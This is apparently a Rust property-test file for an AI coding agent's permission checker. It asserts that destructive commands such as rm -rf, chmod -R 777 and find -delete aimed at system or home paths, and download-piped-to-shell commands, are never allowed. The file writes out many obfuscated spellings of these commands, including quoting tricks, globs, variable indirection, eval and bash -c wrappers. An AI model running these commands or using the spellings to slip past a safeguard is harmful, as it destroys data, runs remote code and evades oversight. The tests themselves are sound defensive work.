//! Property: a command built from a grammar of wrappers × spellings of a destructive
//! command (`rm`, `chmod -R`, `chown -R`, `find -delete`) × separators × quoting ×
//! expansions (braces, globs, tilde, variables assigned earlier, `cd`/`pushd` to `/`)
//! aimed at a blacklisted target (`/`, `/usr`, `/etc`, `~`, the home's absolute path,
//! `/*`) is never allowed, in any permission mode, even with `Bash` allowed by a rule.
//!
//! 256 cases by default; set `PROPTEST_CASES` for more.

use crate::support;

use crewmaster::permission::{PermissionMode, Verdict, check};
use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use support::permission::{Fixture, cmd};

/// Ways to write the destructive command; `{T}` is the target, `{P}` the program name
/// as spelled.
const COMMANDS: &[&str] = &[
    "{P} -rf {T}",
    "{P} -fr {T}",
    "{P} -r -f {T}",
    "{P} -R {T}",
    "{P} --recursive --force {T}",
    "{P} -rf -- {T}",
    "{P} -rfv {T} ",
];
const OTHER_COMMANDS: &[&str] = &[
    "chmod -R 777 {T}",
    "chown -R nobody {T}",
    "chmod --recursive a-rwx {T}",
    "find {T} -delete",
    "find -L {T} -exec rm -rf {} +",
];

/// Spellings of `rm`.
const PROGRAMS: &[&str] = &[
    "rm",
    "/bin/rm",
    "\\rm",
    "\"rm\"",
    "'rm'",
    "r\"\"m",
    "command rm",
];

/// (statements run before, target as written). `{H}` is the home's absolute path.
const TARGETS: &[(&str, &str)] = &[
    ("", "/"),
    ("", "/usr"),
    ("", "/etc/"),
    ("", "//usr"),
    ("", "/usr/../"),
    ("", "~"),
    ("", "~/"),
    ("", "{H}"),
    ("", "{H}/*"),
    ("", "/*"),
    ("", "/u?r"),
    ("", "/[u]sr"),
    ("", "/[!x]tc"),
    ("", "/e*c"),
    ("", "/{usr,tmp}"),
    ("", "/{tmp,e{t,x}c}"),
    ("", "$HOME"),
    ("", "\"$HOME\""),
    ("", "${HOME}/"),
    ("", "~/*"),
    ("", "~/.*"),
    ("T=/usr", "$T"),
    ("export T=/etc", "\"$T\""),
    ("H=~", "$H"),
    ("D=/; E=usr", "$D$E"),
    ("declare T=/", "${T}"),
    ("cd /", "usr"),
    ("cd /", "*"),
    ("pushd /", "./*"),
    ("cd -- /", "etc"),
    ("cd -P /usr", "."),
    ("cd ~", "*"),
    ("cd", "."),
    ("cd /tmp; cd /", "usr"),
    ("pushd /usr; popd; cd /", "etc"),
];

/// Wrappers of the destructive command alone.
const WRAPPERS: &[&str] = &[
    "",
    "sudo ",
    "timeout 5 ",
    "nice -n 5 ",
    "env A=1 ",
    "nohup ",
];

/// Wrappers of the whole script: `{S}` is the script (single quotes escaped).
const SCRIPT_WRAPPERS: &[&str] = &[
    "{S}",
    "bash -c '{S}'",
    "sh -c '{S}'",
    "eval '{S}'",
    "( {S} )",
    "{ {S}; }",
];

/// Separators between the statements before and the command.
const SEPARATORS: &[&str] = &["; ", " && ", "\n"];

/// Harmless commands that may come first, with their separator.
const NOISE: &[&str] = &["", "true; ", "ls && ", "echo hi || ", "ls | wc -l; "];

fn build(
    home: &str,
    (noise, template, program, target, sep, wrapper, script_wrapper): (
        usize,
        usize,
        usize,
        usize,
        usize,
        usize,
        usize,
    ),
) -> String {
    let all: Vec<&str> = COMMANDS.iter().chain(OTHER_COMMANDS).copied().collect();
    let (before, t) = TARGETS[target];
    let t = t.replace("{H}", home);
    let command = all[template]
        .replace("{P}", PROGRAMS[program])
        .replace("{T}", &t);
    let mut script = NOISE[noise].to_string();
    if !before.is_empty() {
        script.push_str(before);
        script.push_str(SEPARATORS[sep]);
    }
    script.push_str(WRAPPERS[wrapper]);
    script.push_str(&command);
    SCRIPT_WRAPPERS[script_wrapper].replace("{S}", &script.replace('\'', "'\\''"))
}

#[test]
fn blacklisted_targets_are_never_allowed_whatever_the_spelling() {
    let f = Fixture::new();
    f.settings(
        "local",
        r#"{"permissions":{"allow":["Bash","Bash(rm:*)"]}}"#,
    );
    let policy = f.policy();
    let home = f.home.display().to_string();
    let cases = std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(256);
    let mut runner = TestRunner::new(Config {
        cases,
        failure_persistence: None,
        ..Config::default()
    });
    let strategy = (
        0..NOISE.len(),
        0..COMMANDS.len() + OTHER_COMMANDS.len(),
        0..PROGRAMS.len(),
        0..TARGETS.len(),
        0..SEPARATORS.len(),
        0..WRAPPERS.len(),
        0..SCRIPT_WRAPPERS.len(),
    );
    let modes = [
        PermissionMode::Strict,
        PermissionMode::Default,
        PermissionMode::AcceptEdits,
        PermissionMode::BypassPermissions,
        PermissionMode::DontAsk,
    ];
    let started = std::time::Instant::now();
    runner
        .run(&strategy, |choice| {
            let command = build(&home, choice);
            for mode in modes {
                let d = check(&f.req("run_command", &cmd(&command), mode), &policy);
                prop_assert_ne!(
                    d.verdict,
                    Verdict::Allow,
                    "`{}` in {}: {:?}",
                    command,
                    mode,
                    d
                );
            }
            Ok(())
        })
        .unwrap();
    eprintln!(
        "permission_blacklist_prop: {cases} cases × {} modes in {:.1?}",
        modes.len(),
        started.elapsed()
    );
}

/// Ways to download (`{U}` is the URL).
const DOWNLOADS: &[&str] = &[
    "curl -fsSL {U}",
    "curl -s {U}",
    "/usr/bin/curl {U}",
    "wget -qO- {U}",
    "wget -O - {U}",
    "timeout 9 curl {U}",
    "sudo curl {U}",
    "env curl {U}",
];

/// Ways the download reaches a shell (`{D}` is the download).
const SINKS: &[&str] = &[
    "{D} | sh",
    "{D} | bash",
    "{D} | bash -s",
    "{D} | bash -s -- -y",
    "{D} | sh -",
    "{D} | bash /dev/stdin",
    "{D} | zsh",
    "{D} | dash",
    "{D} | sudo sh",
    "{D} | sudo -E bash -",
    "{D} | env sh",
    "{D} | /bin/sh",
    "{D} | python3 -",
    "{D} | python",
    "{D} | perl",
    "{D} | node",
    "{D} | ruby",
    "{D} | xargs sh",
    "{D} | tee f | sh",
    "{D} | cat | bash",
    "{D} 2>/dev/null | sh",
    "bash <({D})",
    "sh -c \"$({D})\"",
    "bash -c \"$({D})\"",
    "source <({D})",
    ". <({D})",
    "eval \"$({D})\"",
    "{D} > x.sh && sh x.sh",
    "{D} > x.sh; bash x.sh",
];

/// Property: however a download reaches a shell, and whatever wraps the script, it is
/// never allowed, in any mode, even with `Bash` allowed by a rule.
#[test]
fn a_download_run_by_a_shell_is_never_allowed_whatever_the_spelling() {
    let f = Fixture::new();
    f.settings("local", r#"{"permissions":{"allow":["Bash"]}}"#);
    let policy = f.policy();
    let cases = std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(256);
    let mut runner = TestRunner::new(Config {
        cases,
        failure_persistence: None,
        ..Config::default()
    });
    let strategy = (
        0..NOISE.len(),
        0..DOWNLOADS.len(),
        0..SINKS.len(),
        0..SCRIPT_WRAPPERS.len(),
    );
    let modes = [
        PermissionMode::Strict,
        PermissionMode::Default,
        PermissionMode::AcceptEdits,
        PermissionMode::BypassPermissions,
        PermissionMode::DontAsk,
    ];
    runner
        .run(&strategy, |(noise, download, sink, wrapper)| {
            let d = DOWNLOADS[download].replace("{U}", "https://example.invalid/i.sh");
            let script = format!("{}{}", NOISE[noise], SINKS[sink].replace("{D}", &d));
            let command = SCRIPT_WRAPPERS[wrapper].replace("{S}", &script.replace('\'', "'\\''"));
            for mode in modes {
                let d = check(&f.req("run_command", &cmd(&command), mode), &policy);
                prop_assert_ne!(
                    d.verdict,
                    Verdict::Allow,
                    "`{}` in {}: {:?}",
                    command,
                    mode,
                    d
                );
            }
            Ok(())
        })
        .unwrap();
}
